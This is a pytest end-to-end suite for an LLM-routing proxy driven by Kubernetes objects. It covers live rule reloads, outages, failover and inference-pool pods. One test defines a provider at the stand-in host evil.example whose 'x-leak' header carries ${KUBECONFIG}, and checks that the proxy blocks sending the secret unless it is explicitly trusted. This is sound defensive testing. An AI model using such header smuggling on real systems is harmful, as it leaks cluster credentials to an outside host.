"""Rules from a cluster, and servers in it: real proxies, and an API server to talk to."""

import os
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from datetime import datetime
from functools import partial
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from pointsman.demo.provider import Provider, Reply
from pointsman.demo.server import ThreadedServer
from tests.e2e.conftest import KEYS, StartFar
from tests.e2e.harness import (
    DEADLINE,
    LOOPBACK,
    Far,
    Json,
    Proxy,
    assert_entry,
    assert_refused,
    chat,
    eventually,
    llm_provider,
    llm_route,
    openai_config,
    said,
    to,
    write_rules,
)
from tests.kubernetes.cluster import Cluster, pod, pool, service

pytestmark = pytest.mark.e2e

HOST = "http://llm.test"
ALL = Path("kubernetes:")
ADMIN = "llm_admin=127.0.0.1:0"
POOL = {"group": "inference.networking.k8s.io", "kind": "InferencePool", "name": "vllm"}

type Start = Callable[..., Proxy]
type StartPod = Callable[..., tuple[Provider, ThreadedServer]]


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[Cluster]:
    """An API server."""
    with Cluster(tmp_path) as cluster:
        yield cluster


@pytest.fixture
def own_confdir(confdir: Path, tmp_path: Path) -> Path:
    """A copy of the session's, as proxies keep a copy of their rules there."""
    return Path(shutil.copytree(confdir, tmp_path / "confdir"))


@pytest.fixture
def start(own_confdir: Path, cluster: Cluster) -> Iterator[Start]:
    """Start proxies that find the cluster: `start(rules, *options)`."""
    with ExitStack() as stack:

        def begin(rules: Path = ALL, *options: str) -> Proxy:
            settings = [part for option in options for part in ("--set", option)]
            env = {**KEYS, **cluster.environment}
            return stack.enter_context(Proxy(own_confdir, rules, *settings, env=env))

        yield begin


@pytest.fixture
def start_pod() -> Iterator[StartPod]:
    """Start model servers on addresses of this test's own, all with one port."""
    with ExitStack() as stack:
        started: list[ThreadedServer] = []

        def begin(name: str) -> tuple[Provider, ThreadedServer]:
            provider = Provider(name, chunk_delay=0)
            host = f"127.{40 + os.getpid() % 200}.{os.getpid() // 200 % 250}.{len(started) + 2}"
            port = started[0].port if started else 0
            server = stack.enter_context(ThreadedServer([provider], host=host, port=port))
            started.append(server)
            return provider, server

        yield begin


def by(model: str, openai: Far) -> Json:
    return openai.manifest(configs=openai_config(model=model, apiKey="${OPENAI_API_KEY}"))


def ask(proxy: Proxy, url: str = HOST, **fields: Any) -> httpx.Response:
    with proxy.client() as client:
        return client.post(url, json=chat(**fields), headers={"authorization": "Bearer sk-mine"})


def model_now(proxy: Proxy) -> str:
    """Ask which model is called, and take the log's entry of it."""
    text = said(ask(proxy))
    proxy.entry()
    return text.split()[4].rstrip(".")


def backend(*refs: Json) -> Json:
    return {"backendRefs": list(refs)}


# --- rules ----------------------------------------------------------------------------------------


def test_objects_of_the_cluster_route_requests_and_changes_are_live(
    start: Start, cluster: Cluster, openai: Far
) -> None:
    cluster.apply(by("old", openai), llm_route("r", "llm.test", to("api.openai.com")))
    proxy = start()
    assert proxy.printed.count("rules live from kubernetes:: 1 provider, 1 route") == 1
    assert "HTTP Request" not in proxy.printed  # what the client of the API server logs
    assert model_now(proxy) == "old"
    cluster.apply(by("new", openai))
    eventually(lambda: model_now(proxy) == "new", what="the new model")
    cluster.apply(llm_route("s", "other.test", to("api.openai.com")), namespace="shop")
    proxy.says("1 provider, 2 routes")
    assert ask(proxy, "http://other.test").status_code == 200
    assert_entry(proxy.entry(), route="s", provider="openai", request_model="new")
    cluster.delete("LLMRoute", "s", "shop")
    proxy.out.wait(lambda lines: "1 provider, 1 route" in lines[-1], "one route less")


def test_the_fault_of_one_is_told_to_it_and_holds_no_one_up(
    start: Start, cluster: Cluster, openai: Far
) -> None:
    cluster.apply(by("old", openai), llm_route("r", "llm.test", to("api.openai.com")))
    proxy = start(ALL, "llm_status=true")

    def status(name: str) -> dict[str, str]:
        found = cluster.conditions("LLMRoute", name)
        return {kind: condition["status"] for kind, condition in found.items()}

    def told(name: str, accepted: str) -> bool:
        return status(name).get("Accepted") == accepted

    eventually(lambda: status("r") == {"Accepted": "True", "ResolvedRefs": "True"}, what="status")
    bad = llm_route("r", "llm.test", {**to("api.openai.com"), "wait": 5})
    new = llm_route("new", "new.test", {**to("api.openai.com"), "wait": 5})
    cluster.apply(bad, new)
    for name in ("r", "new"):
        eventually(partial(told, name, "False"), what=name)
    message = cluster.conditions("LLMRoute", "r")["Accepted"]["message"]
    assert message.startswith('spec.rules[0].wait: unknown field "wait"')
    assert "A version that was good before stays in use" in message
    proxy.says('LLMRoute default/r: spec.rules[0].wait: unknown field "wait"')

    cluster.apply(by("new", openai))
    eventually(lambda: model_now(proxy) == "new", what="the others' change")
    refused = ask(proxy, "http://new.test")
    assert_refused(refused, 503, "no_target")
    assert "LLMRoute default/new is at fault" in refused.json()["error"]["message"]
    assert_entry(proxy.entry(), status=503, flags=["UH"])

    cluster.apply(llm_route("new", "new.test", to("api.openai.com")))
    eventually(partial(told, "new", "True"), what="the mended one")
    assert ask(proxy, "http://new.test").status_code == 200
    proxy.entry()


@pytest.mark.parametrize(
    "key",
    [
        {"apiKey": "${TEAM_B_API_KEY}"},
        {"apiKeyFrom": {"file": "/etc/pointsman/keys/of-team-b"}},
    ],
    ids=["variable", "file"],
)
def test_another_teams_key_makes_no_proxy_unready(
    start: Start, cluster: Cluster, openai: Far, key: Json
) -> None:
    cluster.apply(by("ours", openai))
    configs = openai_config(**key)
    cluster.apply(llm_provider("theirs", "theirs.test", configs=configs), namespace="team-b")
    proxy = start(ALL, f"llm_admin={LOOPBACK}:0")
    ready = httpx.get(f"http://{proxy.admin}/readyz", trust_env=False)
    assert ready.status_code == 200, ready.text
    assert ready.json()["warnings"] == ["no key for the provider theirs"]
    assert_refused(ask(proxy, "http://theirs.test"), 503, "no_key")
    assert_entry(proxy.entry(), status=503, provider="theirs")


def test_while_the_api_server_is_away_all_goes_on(
    start: Start, cluster: Cluster, openai: Far, own_confdir: Path
) -> None:
    cluster.apply(by("old", openai), llm_route("r", "llm.test", to("api.openai.com")))
    proxy = start()
    eventually(lambda: len(cluster.watching) == 2, what="two watches")
    cluster.stop()
    proxy.says("what is known stays in use")
    assert model_now(proxy) == "old"

    restarted = start()  # from the copy
    assert "the rules that were last good are used" in restarted.printed
    assert model_now(restarted) == "old"
    assert (own_confdir / "pointsman-rules.json").stat().st_mode & 0o777 == 0o600

    def has_new(one: Proxy) -> bool:
        return model_now(one) == "new"

    cluster.start()
    cluster.apply(by("new", openai))
    for one in (proxy, restarted):
        eventually(partial(has_new, one), what="what came meanwhile")


def test_a_start_without_the_api_server_and_a_copy_fails(
    own_confdir: Path, cluster: Cluster
) -> None:
    cluster.stop()
    proxy = Proxy(own_confdir, ALL, env=cluster.environment)
    proxy.start()
    assert proxy.wait() == 1
    assert "kubernetes:: the Kubernetes API can't be read: it can't be reached" in proxy.printed
    assert "Traceback" not in proxy.printed


@pytest.mark.parametrize(
    ("rules", "option", "message"),
    [
        ("kubernetes:Not_One", "llm_observe=true", "'Not_One' is no namespace; write kubernetes:"),
        ("rules", "llm_status=true", "llm_status: files have no status"),
    ],
)
def test_a_start_with_options_that_can_not_be_fails(
    own_confdir: Path, rules: str, option: str, message: str
) -> None:
    proxy = Proxy(own_confdir, Path(rules), "--set", option)
    proxy.start()
    assert proxy.wait() == 1
    assert message in proxy.printed
    assert "Traceback" not in proxy.printed


def test_an_object_gets_no_secret_but_keys(
    start: Start, cluster: Cluster, start_far: StartFar
) -> None:
    """Who may write objects sends what they name to a host of their own."""
    evil = start_far("evil", "evil.example")
    configs = openai_config(model="m", headers={"x-leak": "${KUBECONFIG}"})
    cluster.apply(evil.manifest(configs=configs))
    url = "http://evil.example/v1/chat/completions"
    proxy = start(ALL, "llm_status=true")
    assert_refused(ask(proxy, url), 503, "no_target")
    proxy.entry()

    def accepted() -> str:
        found = cluster.conditions("LLMProvider", "evil").get("Accepted", {})
        return f"{found.get('status')} {found.get('message')}"

    eventually(lambda: accepted().startswith("False"), what="the status")
    field = "spec.configs.defaultConfig.openAIConfig.headers.x-leak"
    assert f"{field}: objects may name only variables *_API_KEY; rename this one" in accepted()
    assert not evil.provider.calls

    trusting = start(ALL, "llm_key_variables=*_API_KEY,KUBECONFIG")
    assert said(ask(trusting, url))
    assert evil.call().header("x-leak") == str(cluster.kubeconfig)
    trusting.entry()


# --- what is told of them ------------------------------------------------------------------------


def get(proxy: Proxy, path: str) -> httpx.Response:
    return httpx.get(f"http://{proxy.admin}{path}", trust_env=False, timeout=DEADLINE)


def has_refused(proxy: Proxy) -> bool:
    """Tell whether the alert PointsmanRulesRefused would come."""
    name, page = "pointsman_last_reload_successful", get(proxy, "/metrics").text
    (value,) = [line.split()[1] for line in page.splitlines() if line.startswith(f"{name} ")]
    return float(value) == 0


def test_an_api_server_that_is_away_refuses_nothing_and_the_page_lives_on(
    start: Start, cluster: Cluster, openai: Far, page: Page
) -> None:
    cluster.apply(by("old", openai), llm_route("r", "llm.test", to("api.openai.com")))
    proxy = start(ALL, ADMIN)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"http://{proxy.admin}/")
    notices, requests = page.locator("#notices"), page.locator('[data-total="requests"]')
    expect(requests).to_have_text("0")
    eventually(lambda: len(cluster.watching) == 2, what="two watches")
    cluster.stop()
    expect(notices).to_contain_text("The rules may be out of date")
    expect(notices).to_contain_text("it can't be reached")
    expect(notices).not_to_contain_text("refused")
    assert model_now(proxy) == "old"
    expect(requests).to_have_text("1")
    shown, ready = get(proxy, "/config").json(), get(proxy, "/readyz").json()
    assert shown["refused"] is None
    assert datetime.fromisoformat(shown["outdated"]["since"])
    assert ready["warnings"] == ["the rules may be out of date: see /config"]
    assert ready["ready"]
    assert not has_refused(proxy)
    cluster.start()
    expect(notices).to_be_empty()
    assert errors == []


def test_only_a_refused_object_is_a_refusal(start: Start, cluster: Cluster, openai: Far) -> None:
    """Rules that go live while the other kind can't be read are not refused, then or later."""
    cluster.apply(by("old", openai), llm_route("r", "llm.test", to("api.openai.com")))
    proxy = start(ALL, ADMIN)
    eventually(lambda: len(cluster.watching) == 2, what="two watches")
    cluster.refuse(500, path="llmproviders?")
    cluster.cut()
    eventually(lambda: get(proxy, "/config").json()["outdated"], what="a watch that fails")
    cluster.apply(llm_route("s", "other.test", to("api.openai.com")))
    proxy.says("1 provider, 2 routes")
    assert not has_refused(proxy)
    cluster.apply(llm_route("s", "other.test", {**to("api.openai.com"), "wait": 5}))
    eventually(lambda: has_refused(proxy), what="a refused object")
    (problem,) = get(proxy, "/config").json()["refused"]["problems"]
    assert problem.startswith('LLMRoute default/s: spec.rules[0].wait: unknown field "wait"')
    cluster.delete("LLMRoute", "s")
    eventually(lambda: not has_refused(proxy), what="the refused object gone")
    cluster.trouble(None)
    eventually(lambda: get(proxy, "/config").json()["outdated"] is None, what="the other kind")
    assert get(proxy, "/config").json()["refused"] is None
    assert not has_refused(proxy)


# --- servers in the cluster -----------------------------------------------------------------------


def test_a_service_gets_the_clients_request_as_it_is(
    start: Start, cluster: Cluster, start_pod: StartPod
) -> None:
    vllm, server = start_pod("vllm")
    cluster.apply(service("vllm", server.host, http=server.port))
    cluster.apply(llm_route("r", "llm.test", backend({"backendRef": {"name": "vllm"}})))
    proxy = start()
    body = b'{ "model":"qwen3", "messages":[{"role":"user","content":"Hello"}] }'
    headers = {"authorization": "Bearer sk-mine", "cookie": "a=b", "x-own": "1"}
    with proxy.client() as client:
        assert client.post(HOST, content=body, headers=headers).status_code == 200
        assert client.get(f"{HOST}/v1/models").status_code == 200
    first, second = vllm.calls
    assert (first.path, first.body) == ("/v1/chat/completions", body)
    assert first.header("host") == "vllm.default.svc.cluster.local"
    assert first.header("x-own") == "1"
    assert first.header("authorization") is first.header("cookie") is None
    assert second.path == "/v1/models"
    entry, _ = proxy.logged(2)
    assert_entry(
        entry,
        route="r",
        provider="service/default/vllm",
        provider_host="vllm.default.svc.cluster.local",
        upstream_path="/v1/chat/completions",
        request_model="qwen3",
        status=200,
    )
    assert entry["total_tokens"]
    assert entry["attempts"][0]["provider"] == "service/default/vllm"


def test_a_service_takes_its_place_among_providers(
    start: Start, cluster: Cluster, start_pod: StartPod, openai: Far
) -> None:
    """It fails over to a provider, is mirrored, and is back when it exists again."""
    vllm, server = start_pod("vllm")
    rule = backend(
        {"backendRef": {"name": "vllm"}, "weight": 1},
        {"providerHost": "api.openai.com", "priority": 1},
    )
    mirrored = {**rule, "mirror": {"providerHost": "api.openai.com"}}
    cluster.apply(
        service("vllm", server.host, http=server.port),
        by("theirs", openai),
        llm_route("r", "llm.test", rule),
        llm_route("m", "mirrored.test", mirrored),
    )
    proxy = start()
    vllm.replies.append(Reply(status=500, body=b"{}"))
    assert ask(proxy, model="mine").status_code == 200
    entry = proxy.entry()
    tried = [(attempt["provider"], attempt["status"]) for attempt in entry["attempts"]]
    assert tried == [("service/default/vllm", 500), ("openai", 200)]
    assert_entry(entry, request_model="theirs", provider="openai")

    assert ask(proxy, "http://mirrored.test", model="mine").status_code == 200
    entries = {entry["provider"]: entry for entry in proxy.logged(2)}
    assert entries["openai"]["mirror"] is True
    assert_entry(entries["service/default/vllm"], request_model="mine", status=200)

    def provider() -> str:
        assert ask(proxy, model="mine").status_code == 200
        used: str = proxy.entry()["provider"]
        return used

    cluster.delete("Service", "vllm")
    eventually(lambda: provider() == "openai", what="the next priority")
    cluster.apply(service("vllm", server.host, http=server.port))
    eventually(lambda: provider() == "service/default/vllm", what="the service again")


def pods_of(cluster: Cluster, start_pod: StartPod, count: int) -> dict[str, Provider]:
    """Start the pods of a pool, and a route to it."""
    pods = [start_pod(f"pod-{n}") for n in range(count)]
    cluster.apply(pool("vllm", pods[0][1].port, app="vllm"))
    for provider, server in pods:
        cluster.apply(pod(provider.name, server.host, app="vllm"))
    cluster.apply(llm_route("r", "llm.test", backend({"backendRef": POOL})))
    return {provider.name: provider for provider, _ in pods}


def used(proxy: Proxy, pods: dict[str, Provider]) -> str:
    """Ask, and tell which pod has answered."""
    assert ask(proxy, model="m").status_code == 200
    entry = proxy.entry()
    assert_entry(entry, provider="inferencepool/default/vllm", request_model="m", status=200)
    (name,) = [name for name, pod in pods.items() if pod.calls]
    pods[name].calls.clear()
    return name


def test_the_pods_of_a_pool_take_turns_and_a_busy_one_is_spared(
    start: Start, cluster: Cluster, start_pod: StartPod
) -> None:
    pods = pods_of(cluster, start_pod, 3)
    proxy = start()
    turns = [used(proxy, pods) for _ in range(6)]
    assert set(turns[:3]) == set(pods)
    assert turns[:3] == turns[3:]

    go_on = threading.Event()

    def until_told() -> Iterator[bytes]:
        yield b'data: {"choices":[{"delta":{"content":"a"}}]}\n\n'
        for _ in range(int(DEADLINE * 100)):
            if go_on.is_set():
                break
            yield b": wait\n\n"
        yield b"data: [DONE]\n\n"

    headers = [("content-type", "text/event-stream")]
    for one in pods.values():
        one.replies.append(Reply(headers=headers, body=until_told(), chunk_delay=0.01))
    with (
        proxy.client() as client,
        client.stream("POST", HOST, json=chat(model="m", stream=True)) as answer,
    ):
        stream = answer.iter_raw()
        next(stream)
        (busy,) = [name for name, one in pods.items() if one.calls]
        for one in pods.values():
            one.calls.clear()
            one.replies.clear()
        assert {used(proxy, pods) for _ in range(6)} == set(pods) - {busy}
        go_on.set()
        assert b"".join(stream).endswith(b"data: [DONE]\n\n")
    proxy.entry()
    assert {used(proxy, pods) for _ in range(3)} == set(pods)


def test_the_pods_of_a_pool_come_and_go(
    start: Start, cluster: Cluster, start_pod: StartPod, openai: Far
) -> None:
    pods = pods_of(cluster, start_pod, 2)
    proxy = start()
    first, second = pods
    cluster.delete("Pod", second)
    eventually(lambda: {used(proxy, pods) for _ in range(2)} == {first}, what="one pod less")
    gone = cluster.get("Pod", first)
    gone["status"]["conditions"] = [{"type": "Ready", "status": "False"}]
    cluster.apply(gone)

    def status() -> int:
        code = ask(proxy, model="m").status_code
        proxy.entry()
        return code

    eventually(lambda: status() == 503, what="no ready pod")
    refused = ask(proxy, model="m")
    assert_refused(refused, 503, "no_target")
    message = refused.json()["error"]["message"]
    assert "inferencepool/default/vllm: no pod is ready" in message
    assert_entry(proxy.entry(), status=503, flags=["UH"], attempts=[])

    rule = backend({"backendRef": POOL}, {"providerHost": "api.openai.com", "priority": 1})
    cluster.apply(by("theirs", openai), llm_route("r", "llm.test", rule))
    eventually(lambda: status() == 200, what="the next priority")
    cluster.delete("InferencePool", "vllm")
    proxy.says("there is no InferencePool default/vllm")
    assert status() == 200


def test_what_fails_on_one_pod_is_tried_on_another(
    start: Start, cluster: Cluster, start_pod: StartPod
) -> None:
    pods = pods_of(cluster, start_pod, 2)
    proxy = start()
    for _ in range(5):  # then it is set aside
        pods["pod-0"].script = lambda _: Reply(status=503, body=b"{}")
        assert ask(proxy, model="m").status_code == 200
    entries = proxy.logged(5)
    assert {attempt["provider"] for entry in entries for attempt in entry["attempts"]} == {
        "inferencepool/default/vllm"
    }
    assert any(len(entry["attempts"]) == 2 for entry in entries)


def test_the_health_of_a_pool_is_that_of_its_best_pod(
    start: Start, cluster: Cluster, start_pod: StartPod
) -> None:
    pods = pods_of(cluster, start_pod, 2)
    proxy = start(ALL, "llm_admin=127.0.0.1:0")

    def got(path: str) -> httpx.Response:
        return httpx.get(f"http://{proxy.admin}{path}", trust_env=False, timeout=DEADLINE)

    def state() -> tuple[str, list[str], float]:
        """Return what /config says of the pool and of its pods, and what the metrics say."""
        (route,) = got("/config").json()["routes"]
        (target,) = route["rules"][0]["targets"]
        gauges = [
            float(line.rpartition(" ")[2])
            for line in got("/metrics").text.splitlines()
            if line.startswith("pointsman_target_state{")
        ]
        pods = [endpoint["state"] for endpoint in target.get("endpoints", [])]
        return target["state"], sorted(pods), *gauges

    assert state() == ("healthy", ["healthy", "healthy"], 0)
    for name, expected in (
        ("pod-0", ("healthy", ["ejected", "healthy"], 0)),
        ("pod-1", ("ejected", ["ejected", "ejected"], 2)),
    ):
        pods[name].script = lambda _: Reply(status=503, body=b"{}")
        for _ in range(10):  # then it is set aside
            ask(proxy, model="m")
        assert state() == expected
    (target,) = got("/api/live").json()["targets"]
    assert (target["state"], target["endpoints"], target["ejected_endpoints"]) == ("ejected", 2, 2)
    proxy.logged(20)
    for name in pods:
        cluster.delete("Pod", name)
    eventually(lambda: state() == ("no endpoint", [], 2), what="a pool without pods")


def test_a_pool_in_files_is_read_where_the_cluster_is(
    start: Start, cluster: Cluster, start_pod: StartPod, tmp_path: Path, own_confdir: Path
) -> None:
    pods = pods_of(cluster, start_pod, 1)
    route = llm_route("r", "llm.test", backend({"backendRef": POOL}))
    rules = write_rules(tmp_path / "rules", route)
    proxy = start(rules, "llm_kubernetes=true")
    assert used(proxy, pods) == "pod-0"
    cluster.apply(service("other", LOOPBACK, http=1))
    other = backend({"backendRef": {"name": "other"}})
    write_rules(tmp_path / "rules", llm_route("r", "llm.test", other))
    eventually(lambda: [p for p in cluster.watching if "services" in p], what="another watch")
    eventually(lambda: len(cluster.watching) == 1, what="only that")

    refusing = Proxy(own_confdir, write_rules(tmp_path / "pools", route))
    refusing.start()
    assert refusing.wait() == 1
    assert "backendRefs[0].backendRef: the pods of an InferencePool" in refusing.printed
